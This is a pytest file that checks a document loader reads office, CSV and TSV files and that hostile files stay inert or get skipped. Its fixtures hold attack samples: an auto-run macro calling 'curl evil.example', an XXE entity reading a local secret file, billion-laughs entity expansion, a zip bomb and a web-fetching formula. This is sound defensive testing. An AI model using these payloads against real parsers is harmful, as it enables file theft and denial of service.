"""Word, OpenDocument and PowerPoint files, workbooks and CSV/TSV files: read, indexed, found, and bounded.

The files are written here by the libraries that write them (python-docx, odfpy, python-pptx, openpyxl), with
real texts in English and Chinese, ingested into a real index and searched with the offline embedder. Where a
passage stands in the original (a slide, a sheet's row) is checked on what ``read_document`` returns: its places.
Hostile or broken files (zip bombs, billion laughs, corrupt or password-protected files, a million rows, macros,
formulas, external links) end as a skipped file with its reason, or are read without anything in them running.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import TYPE_CHECKING

import docx
import openpyxl
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml.ns import qn
from loopback import serve
from odf.opendocument import OpenDocumentText
from odf.table import Table, TableCell, TableColumn, TableHeaderRows, TableRow
from odf.text import H, List, ListItem, P
from pptx import Presentation
from pptx.util import Inches

from selfcrag.files.loaders import LoadedFile, SkippedFile, read_document
from selfcrag.graph.context import Context
from selfcrag.ingest.run import ingest
from selfcrag.search.retriever import Retriever

if TYPE_CHECKING:
    from selfcrag.files.loaders import Place

RELEASES = [("10", "Buster", "2019-07-06"), ("11", "Bullseye", "2021-08-14"), ("12", "Bookworm", "2023-06-10")]


def word_document() -> bytes:
    """Debian's release notes as Word keeps them: a title, headings, numbered steps, a table; a Chinese section."""
    document = docx.Document()
    document.add_paragraph("Debian 12 Release Notes", style="Title")
    document.add_heading("Upgrading from Debian 11", level=1)
    document.add_paragraph(
        "Before upgrading, back up all data and configuration files, especially /etc and /var/lib/dpkg."
    )
    document.add_paragraph("Edit /etc/apt/sources.list and replace bullseye with bookworm.", style="List Number")
    document.add_paragraph("Run apt update, then apt full-upgrade.", style="List Number")
    document.add_heading("Release history", level=2)
    table = document.add_table(rows=1 + len(RELEASES), cols=3)
    for row, cells in enumerate([("Version", "Codename", "Release date"), *RELEASES]):
        for column, value in enumerate(cells):
            table.cell(row, column).text = value
    document.add_heading("软件包管理", level=1)
    document.add_paragraph("使用 apt install 命令安装软件包，使用 apt purge 命令连同配置文件一起删除软件包。")
    return _saved(document)


def open_document_text() -> bytes:
    """A Chinese command manual as LibreOffice keeps it: outline levels, a list, a table with a header row."""
    document = OpenDocumentText()
    document.text.addElement(H(outlinelevel=1, text="常用命令手册"))
    document.text.addElement(H(outlinelevel=2, text="文件操作"))
    document.text.addElement(P(text="ls 命令列出目录中的文件，加上 -l 选项时显示权限、大小和修改时间。"))
    document.text.addElement(H(outlinelevel=3, text="复制文件"))
    document.text.addElement(P(text="cp 命令复制文件；复制整个目录时必须加上 -r 选项，否则目录会被跳过。"))
    steps = List()
    for step in ("mv 命令移动或重命名文件。", "rm 命令删除文件，删除目录要加 -r 选项。"):
        item = ListItem()
        item.addElement(P(text=step))
        steps.addElement(item)
    document.text.addElement(steps)
    table = Table(name="命令")
    table.addElement(TableColumn(numbercolumnsrepeated=2))
    header = TableHeaderRows()
    header.addElement(_odf_row("命令", "作用"))
    table.addElement(header)
    table.addElement(_odf_row("tar", "打包和解包归档文件"))
    table.addElement(_odf_row("grep", "在文件中按模式搜索文本行"))
    document.text.addElement(table)
    document.text.addElement(H(outlinelevel=2, text="Disk usage"))
    document.text.addElement(P(text="The du command estimates file space usage; du -sh prints one readable total."))
    saved = io.BytesIO()
    document.write(saved)
    return saved.getvalue()


def presentation() -> bytes:
    """An APT training deck: a title slide, bullets with speaker notes, a table of mirrors, a Chinese slide."""
    deck = Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[0])
    slide.shapes.title.text = "APT Training"
    slide.placeholders[1].text = "Package management on Debian"
    slide = deck.slides.add_slide(deck.slide_layouts[1])
    slide.shapes.title.text = "Pinning packages"
    body = slide.placeholders[1].text_frame
    body.text = "Pinning keeps a package at a version you choose."
    body.add_paragraph().text = "Write pin priorities in files under /etc/apt/preferences.d/."
    slide.notes_slide.notes_text_frame.text = "Tell them that apt-mark hold stops a package from being upgraded."
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    slide.shapes.title.text = "镜像站点"
    mirrors = slide.shapes.add_table(3, 2, Inches(1), Inches(2), Inches(8), Inches(2)).table
    for row, cells in enumerate(
        [("地区", "镜像"), ("中国", "mirrors.tuna.tsinghua.edu.cn"), ("德国", "ftp.de.debian.org")]
    ):
        for column, value in enumerate(cells):
            mirrors.cell(row, column).text = value
    slide = deck.slides.add_slide(deck.slide_layouts[6])
    box = slide.shapes.add_textbox(Inches(1), Inches(1), Inches(8), Inches(2))
    box.text_frame.text = "apt clean 删除已经下载的软件包文件，释放 /var/cache/apt/archives 占用的磁盘空间。"
    saved = io.BytesIO()
    deck.save(saved)
    return saved.getvalue()


def workbook() -> bytes:
    """Debian's long-term support dates on one sheet, its architectures in Chinese on another."""
    book = openpyxl.Workbook()
    lts = book.active
    lts.title = "LTS"
    lts.append(["Version", "Codename", "End of LTS"])
    for version, codename, end in [
        (9, "Stretch", "2022-06-30"),
        (10, "Buster", "2024-06-30"),
        (11, "Bullseye", "2026-08-31"),
    ]:
        lts.append([version, codename, dt.date.fromisoformat(end)])
    architectures = book.create_sheet("架构")
    architectures.append(["架构", "说明"])
    for name, meaning in [
        ("amd64", "64 位 x86 处理器"),
        ("arm64", "64 位 ARM 处理器，例如树莓派 4"),
        ("i386", "32 位 x86 处理器"),
    ]:
        architectures.append([name, meaning])
    return _saved(book)


MIRRORS_CSV = """country,mirror,protocols
Germany,ftp.de.debian.org,"http, https"
Japan,ftp.jp.debian.org,"http, rsync"
中国,mirrors.ustc.edu.cn,"http, https, rsync"
"""
PORTS_TSV = "service\tport\tprotocol\nssh\t22\ttcp\nhttp\t80\ttcp\nntp\t123\tudp\nrsync\t873\ttcp\n"
FILES: dict[str, Callable[[], bytes]] = {
    "debian-release-notes.docx": word_document,
    "commands.odt": open_document_text,
    "apt-training.pptx": presentation,
    "debian-lts.xlsx": workbook,
    "mirrors.csv": MIRRORS_CSV.encode,
    "ports.tsv": PORTS_TSV.encode,
}


@pytest.fixture(scope="module")
def office_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The office files, written by their libraries into one folder."""
    folder = tmp_path_factory.mktemp("office") / "docs"
    folder.mkdir()
    for name, write in FILES.items():
        (folder / name).write_bytes(write())
    return folder


@pytest.fixture(scope="module")
def office_index(office_folder: Path) -> Iterator[Retriever]:
    """A retriever on a real index of the office folder, ingested as ``selfcrag ingest`` does."""
    context = Context(data_dir=str(office_folder.parent / "index"))
    summary = ingest([office_folder], context.settings())
    assert not summary.skipped, summary.skipped
    with Retriever(context.settings(), context.search_config()) as retriever:
        yield retriever


def found(retriever: Retriever, question: str, name: str, words: str) -> dict:
    """The passage of file ``name`` among the top five for ``question`` that holds ``words`` (fails when none)."""
    passages = retriever.search(question).passages[:5]
    for passage in passages:
        if Path(passage["source"]).name == name and words in passage["text"]:
            return dict(passage)
    shown = [(Path(p["source"]).name, p["text"][:80]) for p in passages]
    raise AssertionError(f"{words!r} of {name} not in the top five for {question!r}: {shown}")


def loaded(folder: Path, name: str) -> LoadedFile:
    read = read_document(folder / name)
    assert isinstance(read, LoadedFile), read
    return read


def place_of(read: LoadedFile, words: str) -> Place:
    """The place the text ``words`` stands at: the last place at or before it."""
    offset = read.text.index(words)
    return [place for place in read.places if place.offset <= offset][-1]


# --- each format: read, indexed, and its answer found with its section and place ------------------------------


def test_every_office_file_and_sheet_is_read_into_the_index(office_index: Retriever, office_folder: Path) -> None:
    assert all(isinstance(read_document(office_folder / name), LoadedFile) for name in FILES)


def test_a_word_table_row_is_found_with_its_column_headers_under_its_heading_path(office_index: Retriever) -> None:
    passage = found(office_index, "When was Bullseye released?", "debian-release-notes.docx", "Bullseye")
    assert "Version: 11; Codename: Bullseye; Release date: 2021-08-14" in passage["text"]
    assert passage["section"] == ["Debian 12 Release Notes", "Upgrading from Debian 11", "Release history"]


def test_a_chinese_word_section_is_found_under_its_heading_style(office_index: Retriever) -> None:
    passage = found(office_index, "怎样连同配置文件一起删除软件包？", "debian-release-notes.docx", "apt purge")
    assert passage["section"] == ["Debian 12 Release Notes", "软件包管理"]


def test_word_numbered_paragraphs_are_list_items(office_folder: Path) -> None:
    text = loaded(office_folder, "debian-release-notes.docx").text
    assert "- Edit /etc/apt/sources.list and replace bullseye with bookworm.\n\n- Run apt update" in text


def test_an_open_document_heading_outline_gives_the_section_path(office_index: Retriever) -> None:
    passage = found(office_index, "复制目录时需要加什么选项？", "commands.odt", "-r 选项")
    assert passage["section"] == ["常用命令手册", "文件操作", "复制文件"]


def test_an_open_document_table_row_carries_its_header_row(office_index: Retriever) -> None:
    passage = found(office_index, "哪个命令在文件中搜索文本？", "commands.odt", "grep")
    assert "命令: grep; 作用: 在文件中按模式搜索文本行" in passage["text"]


def test_a_slides_speaker_notes_are_found_under_its_title_with_its_slide_number(
    office_index: Retriever, office_folder: Path
) -> None:
    passage = found(office_index, "How do I stop a package from being upgraded?", "apt-training.pptx", "apt-mark")
    assert passage["section"] == ["Pinning packages", "Notes"]
    read = loaded(office_folder, "apt-training.pptx")
    place = place_of(read, "apt-mark hold")
    assert (place.offset, place.kind, place.number) == (read.text.index("# Pinning packages"), "slide", 2)


def test_a_slide_without_a_title_is_found_by_its_text_and_named_by_its_number(
    office_index: Retriever, office_folder: Path
) -> None:
    passage = found(office_index, "apt clean 会释放哪里的磁盘空间？", "apt-training.pptx", "apt clean")
    assert passage["section"] == ["Slide 4"]
    assert place_of(loaded(office_folder, "apt-training.pptx"), "apt clean").number == 4


def test_a_slides_table_row_carries_its_header_row(office_folder: Path) -> None:
    read = loaded(office_folder, "apt-training.pptx")
    assert "地区: 中国; 镜像: mirrors.tuna.tsinghua.edu.cn" in read.text
    assert place_of(read, "mirrors.tuna").number == 3


def test_a_sheet_row_is_found_with_its_column_headers_and_its_sheet_and_row(
    office_index: Retriever, office_folder: Path
) -> None:
    passage = found(office_index, "When does long-term support for Buster end?", "debian-lts.xlsx", "Buster")
    assert "Version: 10; Codename: Buster; End of LTS: 2024-06-30" in passage["text"]
    assert passage["section"] == ["LTS"]
    read = loaded(office_folder, "debian-lts.xlsx")
    place = place_of(read, "Codename: Buster")
    assert (place.offset, place.kind, place.number, place.sheet) == (read.text.index("Version: 10"), "row", 3, "LTS")


def test_a_chinese_sheet_is_a_section_named_by_the_sheet(office_index: Retriever, office_folder: Path) -> None:
    passage = found(office_index, "arm64 是什么处理器？", "debian-lts.xlsx", "arm64")
    assert "架构: arm64; 说明: 64 位 ARM 处理器，例如树莓派 4" in passage["text"]
    assert passage["section"] == ["架构"]
    place = place_of(loaded(office_folder, "debian-lts.xlsx"), "架构: arm64")
    assert (place.kind, place.sheet, place.number) == ("row", "架构", 3)


def test_a_csv_row_is_found_with_its_headers_and_its_row_number(office_index: Retriever, office_folder: Path) -> None:
    passage = found(office_index, "Which Debian mirror serves Japan?", "mirrors.csv", "Japan")
    assert "country: Japan; mirror: ftp.jp.debian.org; protocols: http, rsync" in passage["text"]
    place = place_of(loaded(office_folder, "mirrors.csv"), "country: Japan")
    assert (place.kind, place.sheet, place.number) == ("row", None, 3)


def test_a_csv_file_is_one_sheet_titled_by_its_file_name_not_by_its_first_row(office_index: Retriever) -> None:
    passage = found(office_index, "Which Debian mirror serves Japan?", "mirrors.csv", "Japan")
    assert (passage["title"], passage["section"]) == ("mirrors", ["mirrors"])


def test_a_tsv_row_is_found_with_its_headers_and_its_row_number(office_index: Retriever, office_folder: Path) -> None:
    found(office_index, "Which port does rsync use?", "ports.tsv", "service: rsync; port: 873; protocol: tcp")
    assert place_of(loaded(office_folder, "ports.tsv"), "service: rsync").number == 5


def test_a_semicolon_separated_csv_file_is_sniffed(tmp_path: Path) -> None:
    path = tmp_path / "prices.csv"
    path.write_text("item;price\ncoffee;3,50\ntea;2,80\n", encoding="utf-8")
    assert loaded(tmp_path, "prices.csv").text == "# prices\n\nitem: coffee; price: 3,50\n\nitem: tea; price: 2,80"


def test_each_row_of_data_is_one_sentence(office_folder: Path) -> None:
    from selfcrag.split.sentences import split_sentences

    text = loaded(office_folder, "debian-lts.xlsx").text
    sentences = [text[s.start : s.end] for s in split_sentences(text)]
    assert "Version: 11; Codename: Bullseye; End of LTS: 2026-08-31" in sentences


# --- what a document holds never runs, and nothing is fetched -----------------------------------------------


def test_a_formula_is_read_as_the_value_it_stored(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(["Release", "Days supported"])
    book.active.append(["Buster", "=DATE(2024,6,30)-DATE(2019,7,6)"])
    path = tmp_path / "support.xlsx"
    path.write_bytes(_with_cached_values(_saved(book), {"B2": "1821"}))
    text = loaded(tmp_path, "support.xlsx").text
    assert "Release: Buster; Days supported: 1821" in text
    assert "DATE(" not in text


def test_a_formula_that_fetches_from_the_web_is_not_fetched_and_reads_as_its_stored_value(tmp_path: Path) -> None:
    with _counting_server() as (url, requests):
        book = openpyxl.Workbook()
        book.active.append(["Currency", "Rate"])
        book.active.append(["EUR", f'=WEBSERVICE("{url}/rate")'])
        path = tmp_path / "rates.xlsx"
        path.write_bytes(_with_cached_values(_saved(book), {"B2": "1.08"}))
        text = loaded(tmp_path, "rates.xlsx").text
    assert "Currency: EUR; Rate: 1.08" in text
    assert requests == []


def test_a_linked_image_in_a_word_document_is_never_fetched(tmp_path: Path) -> None:
    with _counting_server() as (url, requests):
        document = docx.Document()
        document.add_paragraph("The logo below is linked, not embedded.")
        document.add_picture(io.BytesIO(_one_pixel_png()))
        link = document.part.relate_to(f"{url}/logo.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)
        blip = document.inline_shapes[0]._inline.graphic.graphicData.pic.blipFill.blip
        blip.set(qn("r:link"), link)  # how Word marks a picture linked to a file or URL
        (tmp_path / "linked.docx").write_bytes(_saved(document))
        text = loaded(tmp_path, "linked.docx").text
    assert text == "The logo below is linked, not embedded."
    assert requests == []


def test_a_macro_enabled_workbook_is_read_and_its_macros_are_not(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(["Task", "Owner"])
    book.active.append(["Rotate backups", "ops team"])
    macro = b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n Shell "curl evil.example"\r\nEnd Sub'
    path = tmp_path / "tasks.xlsm"
    path.write_bytes(_with_member(_saved(book), "xl/vbaProject.bin", macro))
    text = loaded(tmp_path, "tasks.xlsm").text
    assert "Task: Rotate backups; Owner: ops team" in text
    assert "Shell" not in text and "AutoOpen" not in text


def test_a_macro_enabled_word_document_is_read_and_its_macros_are_not(tmp_path: Path) -> None:
    document = docx.Document()
    document.add_paragraph("Quarterly figures are due on the fifth working day.")
    saved = _with_member(_saved(document), "word/vbaProject.bin", b'Sub AutoOpen()\r\n Shell "calc"\r\nEnd Sub')
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    saved = _with_replaced(saved, "[Content_Types].xml", main, "application/vnd.ms-word.document.macroEnabled.main+xml")
    (tmp_path / "figures.docm").write_bytes(saved)
    assert loaded(tmp_path, "figures.docm").text == "Quarterly figures are due on the fifth working day."


# --- bad input: skipped with its reason, or bounded -------------------------------------------------------------


def skipped(path: Path) -> str:
    read = read_document(path)
    assert isinstance(read, SkippedFile), read
    return read.reason


def test_a_zip_bomb_is_skipped_unopened(tmp_path: Path) -> None:
    document = docx.Document()
    document.add_paragraph("small")
    bomb = _with_replaced(_saved(document), "word/document.xml", "<w:body>", "<w:body>" + " " * 50_000_000)
    path = tmp_path / "bomb.docx"
    path.write_bytes(bomb)
    assert path.stat().st_size < 1_000_000
    assert skipped(path) == "compressed content too large (a zip bomb?)"


@pytest.mark.parametrize(("name", "part"), [("laughs.docx", "word/document.xml"), ("laughs.xlsx", "xl/workbook.xml")])
def test_a_billion_laughs_part_is_skipped_not_expanded(tmp_path: Path, name: str, part: str) -> None:
    original = _saved(docx.Document()) if name.endswith(".docx") else _saved(openpyxl.Workbook())
    path = tmp_path / name
    path.write_bytes(_with_billion_laughs(original, part))
    assert skipped(path) == "XML declares entities (a billion laughs or external entity attack?)"


def test_an_external_entity_is_skipped_not_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the password is swordfish")
    document = docx.Document()
    document.add_paragraph("PLACEHOLDER")
    saved = _with_replaced(
        _saved(document), "word/document.xml", "?>", f'?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file://{secret}">]>'
    )
    path = tmp_path / "xxe.docx"
    path.write_bytes(_with_replaced(saved, "word/document.xml", "PLACEHOLDER", "&x;"))
    assert skipped(path) == "XML declares entities (a billion laughs or external entity attack?)"


@pytest.mark.parametrize(
    ("name", "kind"),
    [("notes.docx", "Word document"), ("deck.pptx", "PowerPoint presentation"), ("book.xlsx", "Excel workbook")],
)
def test_a_truncated_office_file_is_skipped_as_corrupt(tmp_path: Path, name: str, kind: str) -> None:
    whole = {".docx": word_document, ".pptx": presentation, ".xlsx": workbook}[Path(name).suffix]()
    path = tmp_path / name
    path.write_bytes(whole[: len(whole) // 2])
    assert skipped(path) == f"corrupt or unreadable {kind} (not a valid ZIP archive)"


def test_an_open_document_with_a_damaged_content_part_is_skipped_as_corrupt(tmp_path: Path) -> None:
    path = tmp_path / "damaged.odt"
    path.write_bytes(_with_replaced(open_document_text(), "content.xml", "</office:document-content>", ""))
    assert skipped(path) == "corrupt or unreadable OpenDocument text (damaged XML)"


@pytest.mark.parametrize(
    ("name", "kind"),
    [("notes.docx", "Word document"), ("deck.pptx", "PowerPoint presentation"), ("book.xlsx", "Excel workbook")],
)
def test_a_password_protected_office_file_is_skipped_with_its_reason(tmp_path: Path, name: str, kind: str) -> None:
    path = tmp_path / name
    path.write_bytes(_encrypted_office_file())
    assert skipped(path) == f"password-protected {kind} (save it without a password to read it)"


def test_a_password_protected_open_document_is_skipped_with_its_reason(tmp_path: Path) -> None:
    manifest = (
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA">'
        '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/>'
        "</manifest:encryption-data></manifest:file-entry>"
    )
    odt = _with_replaced(
        open_document_text(), "META-INF/manifest.xml", "</manifest:manifest>", manifest + "</manifest:manifest>"
    )
    path = tmp_path / "locked.odt"
    path.write_bytes(_with_member(odt, "content.xml", bytes(range(256)) * 8))  # what encryption leaves of it
    assert skipped(path) == "password-protected OpenDocument text (save it without a password to read it)"


def test_a_sheet_with_a_million_rows_is_read_to_its_bound_and_says_so(tmp_path: Path) -> None:
    from selfcrag.files.sheets import MAX_ROWS

    path = tmp_path / "million.xlsx"
    path.write_bytes(_million_row_workbook())
    read = loaded(tmp_path, "million.xlsx")
    assert len(read.places) == MAX_ROWS + 1  # the sheet's heading stands with its first row, then each row
    last = read.places[-1]
    assert (last.offset, last.kind, last.number, last.sheet) == (
        read.text.rindex(f"id: {MAX_ROWS}"),
        "row",
        MAX_ROWS + 1,
        "Data",
    )
    assert read.text.endswith(
        f"(Not read: the rows of sheet Data from row {MAX_ROWS + 2:,} on; at most 100,000 rows of a file are read.)"
    )


def test_a_csv_file_with_a_million_rows_is_read_to_its_bound_and_says_so(tmp_path: Path) -> None:
    from selfcrag.files.sheets import MAX_ROWS

    path = tmp_path / "million.csv"
    path.write_text("id,name\n" + "".join(f"{n},item {n}\n" for n in range(1, 1_000_001)), encoding="utf-8")
    read = loaded(tmp_path, "million.csv")
    assert sum(place.kind == "row" for place in read.places) == MAX_ROWS + 1
    assert f"id: {MAX_ROWS}; name: item {MAX_ROWS}" in read.text
    assert read.text.endswith(
        "(Not read: the rows of this file from row 100,002 on; at most 100,000 rows of a file are read.)"
    )


# --- how the test files are made ----------------------------------------------------------------------------


def _odf_row(*cells: str) -> TableRow:
    row = TableRow()
    for value in cells:
        cell = TableCell()
        cell.addElement(P(text=value))
        row.addElement(cell)
    return row


def _saved(document: docx.document.Document | openpyxl.Workbook) -> bytes:
    saved = io.BytesIO()
    document.save(saved)
    return saved.getvalue()


def _rewritten(
    archive: bytes, change: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None
) -> bytes:
    """The archive with each member passed through ``change`` (None keeps it) and ``extra`` members added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member)
            changed = change(member.filename, data)
            target.writestr(member.filename, data if changed is None else changed)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def _with_replaced(archive: bytes, part: str, old: str, new: str) -> bytes:
    def change(name: str, data: bytes) -> bytes | None:
        if name != part:
            return None
        text = data.decode("utf-8")
        assert old in text, (part, old)
        return text.replace(old, new, 1).encode("utf-8")

    return _rewritten(archive, change)


def _with_member(archive: bytes, part: str, data: bytes) -> bytes:
    names = zipfile.ZipFile(io.BytesIO(archive)).namelist()
    if part in names:
        return _rewritten(archive, lambda name, old: data if name == part else None)
    return _rewritten(archive, lambda name, old: None, {part: data})


def _with_cached_values(book: bytes, values: dict[str, str]) -> bytes:
    """A workbook whose formula cells hold the values a spreadsheet stored when it last calculated them."""

    def change(name: str, data: bytes) -> bytes | None:
        if not name.startswith("xl/worksheets/sheet"):
            return None
        text = data.decode("utf-8")
        for cell, value in values.items():
            text, count = re.subn(
                rf'(<c r="{cell}"[^>]*>\s*<f>.*?</f>)\s*(?:<v\s*/>|<v>\s*</v>)?', rf"\1<v>{value}</v>", text
            )
            assert count == 1, (cell, text)
        return text.encode("utf-8")

    return _rewritten(book, change)


def _with_billion_laughs(archive: bytes, part: str) -> bytes:
    """The archive with ``part`` declaring ten levels of entities, ten each, and using the last (10^10 laughs)."""
    entities = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))

    def change(name: str, data: bytes) -> bytes | None:
        if name != part:
            return None
        text = data.decode("utf-8")
        declaration, _, body = text.partition("?>") if text.startswith("<?xml") else ("", "", text)
        root = re.match(r"\s*<([\w:]+)", body).group(1)  # type: ignore[union-attr]
        body = re.sub(r"(<[\w:][^>]*>)", r"\1&lol9;", body, count=1)  # the laughs, in the root element
        return f"{declaration + '?>' if declaration else ''}<!DOCTYPE {root} [{entities}]>{body}".encode()

    return _rewritten(archive, change)


def _encrypted_office_file() -> bytes:
    """What Office saves for a password-protected .docx/.xlsx/.pptx: a compound file (OLE2) holding the
    EncryptionInfo and EncryptedPackage streams instead of a ZIP package (here each 4 KB of noise).
    """
    sector, end, free, fat_sector, no_stream = 512, 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH6sIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, bytes(6), 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<109I", 0, *([free] * 108))
    # Sector 0 the FAT, 1 the directory, 2-9 and 10-17 the two streams (4 KB each: past the mini stream's cutoff).
    fat = [fat_sector, end, *range(3, 10), end, *range(11, 18), end]
    fat_bytes = struct.pack(f"<{sector // 4}I", *fat, *([free] * (sector // 4 - len(fat))))

    def entry(name: str, kind: int, left: int, right: int, child: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le") if name else b""
        return struct.pack(
            "<64sHBBIII16sIQQIII",
            encoded,
            len(encoded),
            kind,
            1,
            left,
            right,
            child,
            bytes(16),
            0,
            0,
            0,
            start,
            size,
            0,
        )

    directory = (
        entry("Root Entry", 5, no_stream, no_stream, 1, end, 0)
        + entry("EncryptionInfo", 2, no_stream, 2, no_stream, 2, 4096)
        + entry("EncryptedPackage", 2, no_stream, no_stream, no_stream, 10, 4096)
        + entry("", 0, no_stream, no_stream, no_stream, 0, 0)
    )
    noise = bytes((n * 37 + 11) % 256 for n in range(4096))
    return header + fat_bytes + directory + noise + noise


def _million_row_workbook() -> bytes:
    """A workbook whose one sheet has a header and a million rows, written as Excel writes a sheet's XML."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
            'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/></Types>',
        )
        book.writestr(
            "_rels/.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{package}"><Relationship Id="rId1" '
            f'Type="{relations}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        book.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{main}" xmlns:r="{relations}"><sheets>'
            '<sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        book.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{package}"><Relationship Id="rId1" '
            f'Type="{relations}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        with book.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(
                f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{main}"><dimension ref="A1:A1000001"/>'
                '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row>'.encode()
            )
            for first in range(2, 1_000_002, 10_000):
                rows = range(first, min(first + 10_000, 1_000_002))
                sheet.write("".join(f'<row r="{n}"><c r="A{n}"><v>{n - 1}</v></c></row>' for n in rows).encode())
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


class _CountingHandler(BaseHTTPRequestHandler):
    requests: list[str]

    def do_GET(self) -> None:  # noqa: N802
        self.requests.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@contextmanager
def _counting_server() -> Iterator[tuple[str, list[str]]]:
    """A loopback server that records the path of each request it is sent."""
    requests: list[str] = []
    with serve(type("Handler", (_CountingHandler,), {"requests": requests})) as url:
        yield url, requests


def _one_pixel_png() -> bytes:
    """A 1x1 grey PNG image."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)  # 1x1, 8-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\x80")) + chunk(b"IEND", b"")
    )
